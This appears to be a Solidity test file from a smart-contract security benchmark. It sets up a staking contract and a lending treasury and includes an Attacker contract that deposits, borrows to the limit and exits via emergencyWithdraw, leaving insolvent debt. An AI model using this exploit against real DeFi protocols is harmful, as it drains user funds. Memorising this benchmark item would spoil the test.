// SPDX-License-Identifier: GPL-3.0
pragma solidity 0.8.19;

import "./MasterPlatypusV4.sol";

// assay-canary-4cc8be53-002d-43c0-a27f-5465846bdc36

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IERC20 {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten(bool on) external {
        require(msg.sender == minter, "minter only");
        silent = on;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Lp is Token {}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);

    Lp internal lp;
    Token internal ptp;
    PlatypusTreasure internal treasure;
    MasterPlatypusV4 internal master;
    Attacker internal thief;

    function setUp() public {
        lp = new Lp();
        ptp = new Token();
        treasure = new PlatypusTreasure();
        master = new MasterPlatypusV4(lp, ptp, treasure);
        treasure.setMaster(master);
        treasure.setLimits(9_500, 60_000_000e18);
        ptp.mint(address(this), 3_000e18);
        ptp.approve(address(master), 3_000e18);
        put(ANA, 1_000_000e18);
        put(BEN, 500_000e18);
        thief = new Attacker(treasure, master, lp);
        lp.mint(address(thief), 44_000_000e18);
    }

    function put(address who, uint256 amount) internal {
        lp.mint(who, 2 * amount);
        vm.startPrank(who);
        lp.approve(address(master), type(uint256).max);
        master.deposit(amount);
        vm.stopPrank();
    }

    function test_Regular() public {
        master.addRewards(3_000e18);
        vm.startPrank(ANA);
        treasure.borrow(500_000e18);
        treasure.transferUsp(BEN, 100_000e18);
        treasure.repay(300_000e18);
        master.withdraw(700_000e18);
        require(ptp.balanceOf(ANA) == 2_000e18 && lp.balanceOf(ANA) == 1_700_000e18, "rewards");
        vm.stopPrank();
        PlatypusTreasure.PositionView memory p = treasure.positionOf(ANA);
        require(p.collateral == 300_000e18 && p.debt == 200_000e18 && p.solvent, "position");
        vm.startPrank(BEN);
        master.deposit(100_000e18);
        require(ptp.balanceOf(BEN) == 1_000e18, "reward on deposit");
        master.emergencyWithdraw();
        require(lp.balanceOf(BEN) == 1_000_000e18 && master.sumOfStakes() == 300_000e18, "all back");
        vm.stopPrank();
        master.transferOwnership(ANA);
        treasure.transferOwnership(BEN);
        require(master.owner() == ANA && treasure.owner() == BEN && carried(), "owners");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        treasure.setMaster(master);
        vm.expectRevert("Ownable: caller is not the owner");
        treasure.setLimits(0, 0);
        vm.expectRevert("Ownable: caller is not the owner");
        master.addRewards(0);
        vm.expectRevert("Ownable: caller is not the owner");
        master.transferOwnership(ANA);
        vm.stopPrank();
        vm.expectRevert("PlatypusTreasure: master is set");
        treasure.setMaster(master);
        vm.expectRevert("PlatypusTreasure: factor");
        treasure.setLimits(10_001, 0);
        MasterPlatypusV4 other = new MasterPlatypusV4(lp, ptp, treasure);
        vm.expectRevert("MasterPlatypus: no stakes");
        other.addRewards(0);
    }

    function test_RefusesDebtWithoutStake() public {
        vm.startPrank(ANA);
        vm.expectRevert("PlatypusTreasure: insolvent");
        treasure.borrow(950_001e18);
        treasure.borrow(950_000e18);
        vm.expectRevert("MasterPlatypus: debt needs the stake");
        master.withdraw(1e18);
        vm.stopPrank();
        treasure.setLimits(9_000, 950_000e18);
        vm.prank(ANA);
        vm.expectRevert("MasterPlatypus: remaining amount exceeds the limit");
        master.emergencyWithdraw();
        vm.prank(BEN);
        vm.expectRevert("PlatypusTreasure: ceiling");
        treasure.borrow(1);
    }

    function test_RefusesWhatDoesNotMove() public {
        lp.quieten(true);
        vm.startPrank(ANA);
        vm.expectRevert("MasterPlatypus: LP in");
        master.deposit(1);
        vm.expectRevert("MasterPlatypus: LP out");
        master.withdraw(1);
        vm.expectRevert("MasterPlatypus: LP out");
        master.emergencyWithdraw();
        vm.stopPrank();
        master.addRewards(3_000e18);
        ptp.quieten(true);
        vm.expectRevert("MasterPlatypus: PTP");
        master.addRewards(0);
        lp.quieten(false);
        vm.prank(ANA);
        vm.expectRevert("MasterPlatypus: PTP");
        master.withdraw(0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(!carried(), "all debt is carried");
    }

    /// Whether stakes carry the debt.
    function carried() public view returns (bool) {
        return treasure.isSolvent(ANA) && treasure.isSolvent(BEN) && treasure.isSolvent(address(thief));
    }

    function target() public view returns (address) {
        return address(master);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Borrows to the limit and leaves with the stake.
contract Attacker {
    PlatypusTreasure internal treasure;
    MasterPlatypusV4 internal master;
    Lp internal lp;

    constructor(PlatypusTreasure treasure_, MasterPlatypusV4 master_, Lp lp_) {
        treasure = treasure_;
        master = master_;
        lp = lp_;
    }

    function run() external {
        lp.approve(address(master), type(uint256).max);
        master.deposit(44_000_000e18);
        treasure.borrow(41_800_000e18);
        master.emergencyWithdraw();
    }
}
